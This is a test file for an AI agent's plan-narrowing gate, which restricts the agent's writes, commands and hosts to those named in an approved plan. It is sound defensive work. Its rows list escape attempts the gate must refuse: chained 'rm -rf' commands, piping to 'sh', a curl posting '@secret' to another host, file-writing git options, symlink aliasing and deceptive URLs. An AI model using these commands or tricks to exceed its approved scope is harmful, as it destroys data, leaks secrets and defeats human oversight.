/**
 * The plan narrowing as an attacker tries it (docs/safety.md "Plans as contracts"): the real gate
 * over a real project directory, then the narrowing. Each row is a call a model might make to
 * do more than the plan names; the allowed rows show the narrowing does not take away what the
 * plan named.
 */
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { checkPlanDocument } from "../../src/agent/plan-file.js";
import { NOT_IN_PLAN, planGate, planScope } from "../../src/agent/plan-narrow.js";
import { defaultConfig, type PolicyMode } from "../../src/config/schema.js";
import type { Effects } from "../../src/core/types.js";
import { buildGateSettings } from "../../src/policy/settings.js";
import { normalHost, type Plan, planSha256 } from "../../src/tools/plan-shape.js";

let root: string;
const PLAN: Plan = {
  steps: [
    { title: "edit", files: ["a.txt", "src/b.ts", "alias.txt", "../outside.txt"] },
    { title: "test", commands: ["npm test", "git commit -m x", "make 'all'"] },
    {
      title: "named exactly",
      commands: ["rm -f build/old.txt", "sed -i s/TODO/DONE/ notes.md", "curl https://named.example"],
    },
    { title: "prefixes", commands: ["git diff *", "git branch *", "npm run lint *"] },
    { title: "fetch", hosts: ["api.example.com", "LOCALHOST:8080"] },
  ],
};

beforeAll(() => {
  root = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), "scoot-plan-narrow-")));
  fs.mkdirSync(path.join(root, "src"));
  fs.writeFileSync(path.join(root, "a.txt"), "a");
  fs.writeFileSync(path.join(root, "secret.txt"), "s");
  // A named file that is a link to an unnamed one, and an unnamed link to a named one.
  fs.symlinkSync("secret.txt", path.join(root, "alias.txt"));
  fs.symlinkSync("a.txt", path.join(root, "to-a.txt"));
});
afterAll(() => fs.rmSync(root, { recursive: true, force: true }));

function judge(effects: Effects, mode: PolicyMode = "unrestricted") {
  const settings = buildGateSettings(defaultConfig(), root, { mode, scootHome: path.join(root, ".home") });
  return planGate(planScope(PLAN, root))(effects, settings);
}

const write = (p: string): Effects => ({ capability: "write", writePaths: [p] });
const bash = (command: string): Effects => ({ capability: "exec", command });
const get = (url: string): Effects => ({ capability: "net_read", url: { method: "GET", url } });

describe("writes", () => {
  it.each([
    ["a.txt", true],
    ["./a.txt", true],
    ["src/../a.txt", true],
    ["src/b.ts", true],
    [`${"ROOT"}/a.txt`, true],
    ["b.txt", false],
    ["A.txt", false],
    // The gate resolves it to a.txt itself (the same file opened).
    ["a.txt/", true],
    ["src/a.txt", false],
    ["../a.txt", false],
    ["../outside.txt", true],
    // alias.txt is named but links to secret.txt: the write would open another file.
    ["alias.txt", false],
    // to-a.txt links to the named a.txt, but the plan did not name the path written.
    ["to-a.txt", false],
  ])("%s → allowed %s", (p, allowed) => {
    const v = judge(write(p.replace("ROOT", root)));
    expect(v.allow, JSON.stringify(v)).toBe(allowed);
    if (!v.allow) expect(v.reason).toContain(NOT_IN_PLAN);
  });

  it("a write that names no path is not in the plan", () => {
    const v = judge({ capability: "write" });
    expect(v).toMatchObject({ allow: false });
    if (!v.allow) expect(v.reason).toContain(NOT_IN_PLAN);
  });

  it("reads are not narrowed", () => {
    expect(judge({ capability: "read", readPaths: ["secret.txt"] }).allow).toBe(true);
  });
});

describe("commands", () => {
  it.each([
    // A named command is that command: extra whitespace does not count, extra words do.
    ["npm test", true],
    ["  npm test  ", true],
    ["npm  test", true],
    ["npm\ttest", true],
    ["npm test -- --watch", false],
    ["npm testx", false],
    ["npm test;x", false],
    ["npm test; rm -rf x", false],
    ["npm test && rm -rf x", false],
    ["npm test\nrm -rf x", false],
    ["npm test | sh", false],
    ["npm test $(rm -rf x)", false],
    ["npm test `x`", false],
    ["npm test > ../x", false],
    ["npm", false],
    ["npm run test", false],
    ["X=1 npm test", false],
    ["/usr/bin/npm test", false],
    ["NPM test", false],
    ["npm TEST", false],
    ["git commit -m x", true],
    ["git commit -m x --amend", false],
    ["git commit", false],
    // A named command that is not plain matches only exactly.
    ["make 'all'", true],
    ["make 'all' install", false],
    ["make all", false],
    // Each stretch of a command named exactly is refused; the command itself runs.
    ["rm -f build/old.txt", true],
    ["rm  -f  build/old.txt ", true],
    ["rm -f build/old.txt -r src", false],
    ["rm -f build/old.txt src", false],
    ["rm -rf build/old.txt", false],
    ["rm -f 'build/old.txt'", false],
    ["/bin/rm -f build/old.txt", false],
    ["RM -f build/old.txt", false],
    ["rm -f build/old.txt; rm -rf src", false],
    ["rm -f build/old.txt && rm -rf src", false],
    ["rm -f build/old.txt || rm -rf src", false],
    ["rm -f build/old.txt & rm -rf src", false],
    ["sed -i s/TODO/DONE/ notes.md", true],
    ["sed -i s/TODO/DONE/ -f notes.md", false],
    ["sed -i s/TODO/DONE/ notes.md README.md", false],
    ["curl https://named.example", true],
    ["curl https://named.example https://other.example -d @secret", false],
    ["curl https://named.example -o README.md", false],
    // A prefix covers more words, never an option that writes, deletes or runs something.
    ["git diff", true],
    ["git diff --stat", true],
    ["git  diff   --stat  main", true],
    ["git diff --no-ext-diff -- src", true],
    ["git diff --output=README.md", false],
    ["git diff --output README.md", false],
    ["git diff --OUTPUT=README.md", false],
    ["git diff -oREADME.md", false],
    ["git diff --ext-diff", false],
    ["git diff -c", false],
    ["git diff -- --output=x", false],
    ["git diff --stat; rm -rf src", false],
    ["git diff --stat && rm -rf src", false],
    ["git diff --stat | sh", false],
    ["git diff $(rm -rf src)", false],
    ['git diff "--output=x"', false],
    ["git diffx", false],
    ["git diff-tree HEAD", false],
    ["GIT diff", false],
    ["git DIFF", false],
    ["git -c diff.external=./x diff", false],
    ["git branch", true],
    ["git branch -a", true],
    ["git branch -D x", false],
    ["git branch -Dx", false],
    ["git branch -d x", false],
    ["git branch --delete x", false],
    ["git branch -f main HEAD~3", false],
    ["npm run lint", true],
    ["npm run lint -- --max-warnings=0", true],
    ["npm run lint -- --fix", false],
    ["npm run lint -- --config=evil.js", false],
    ["npm run deploy", false],
  ])("%j → allowed %s", (command, allowed) => {
    const v = judge(bash(command));
    expect(v.allow, JSON.stringify(v)).toBe(allowed);
    if (!v.allow) expect(v.reason).toMatch(/not in the approved plan|policy/);
  });

  it("a refusal names the plan's commands and how to allow more", () => {
    const v = judge(bash("rm -f build/old.txt -r src"));
    expect(v.allow).toBe(false);
    if (v.allow) return;
    expect(v.reason).toContain(`${NOT_IN_PLAN}: running "rm -f build/old.txt -r src"`);
    expect(v.reason).toContain('the plan names the commands "npm test", "git commit -m x"');
    expect(v.reason).toContain('"rm -f build/old.txt"');
    expect(v.reason).toContain('the plan names it exactly, or ends a harmless prefix with " *"');
  });

  it("a prefix's refusal says which word it does not cover, and why", () => {
    const v = judge(bash("git diff --output=README.md"));
    expect(v.allow).toBe(false);
    if (v.allow) return;
    expect(v.reason).toContain(
      `${NOT_IN_PLAN}: running "git diff --output=README.md": "--output=README.md" writes files, which "git diff *" does not cover (the plan names the commands`,
    );
  });

  it("a plan that names no commands says so", () => {
    const settings = buildGateSettings(defaultConfig(), root, { mode: "unrestricted" });
    const v = planGate(planScope({ steps: [{ title: "t", files: ["a.txt"] }] }, root))(bash("ls"), settings);
    expect(v.allow).toBe(false);
    if (!v.allow)
      expect(v.reason).toContain("the plan names no commands; a command runs only as the plan names it");
  });
});

describe("hosts", () => {
  it.each([
    ["https://api.example.com/v1", true],
    ["http://api.example.com/v1", true],
    ["https://API.Example.COM/v1", true],
    ["https://api.example.com:443/v1", true],
    ["https://api.example.com:8443/v1", false],
    ["https://api.example.com.evil.org/", false],
    ["https://api.example.com@evil.org/", false],
    ["https://user:pw@api.example.com/", true],
    ["https://evil.org/?api.example.com", false],
    ["https://api.example.com./", false],
    ["http://localhost:8080/x", true],
    ["http://localhost/x", false],
    ["http://localhost:8081/x", false],
  ])("%s → allowed %s", (url, allowed) => {
    const v = judge(get(url));
    expect(v.allow, JSON.stringify(v)).toBe(allowed);
    if (!v.allow) expect(v.reason).toContain(NOT_IN_PLAN);
  });

  it("an MCP call is not in any plan", () => {
    const settings = buildGateSettings(defaultConfig(), root, { mode: "unrestricted" });
    settings.mcpAllowed = { s: ["t"] };
    const v = planGate(planScope(PLAN, root))(
      { capability: "exec", mcp: { server: "s", tool: "t" } },
      settings,
    );
    expect(v.allow).toBe(false);
  });
});

describe("the normal gate decides first", () => {
  it("a named file the mode refuses stays refused, with the gate's reason", () => {
    const v = judge(write("a.txt"), "readonly");
    expect(v.allow).toBe(false);
    if (!v.allow) expect(v.reason).toContain("readonly");
  });
});

describe("the plan's hash and shape", () => {
  it("the hash is of the canonical plan: key order and whitespace do not change it, an edit does", () => {
    const a = checkPlanDocument(JSON.parse('{"steps":[{"files":["x"],"title":"t"}]}'));
    const b = checkPlanDocument({ status: "plan", plan: { steps: [{ title: "t", files: ["x"] }] } });
    const c = checkPlanDocument({ steps: [{ title: "t", files: ["y"] }] });
    if (!a.ok || !b.ok || !c.ok) throw new Error("plans should check");
    expect(planSha256(a.value)).toBe(planSha256(b.value));
    expect(planSha256(a.value)).not.toBe(planSha256(c.value));
  });

  it.each([
    ["api.example.com", "api.example.com"],
    ["API.example.com:443", "api.example.com"],
    ["localhost:8080", "localhost:8080"],
    ["[::1]:9000", "[::1]:9000"],
    ["https://x.org", undefined],
    ["user@x.org", undefined],
    ["x.org/path", undefined],
    ["*.x.org", undefined],
  ])("host %j → %j", (text, want) => {
    expect(normalHost(text)).toBe(want);
  });
});
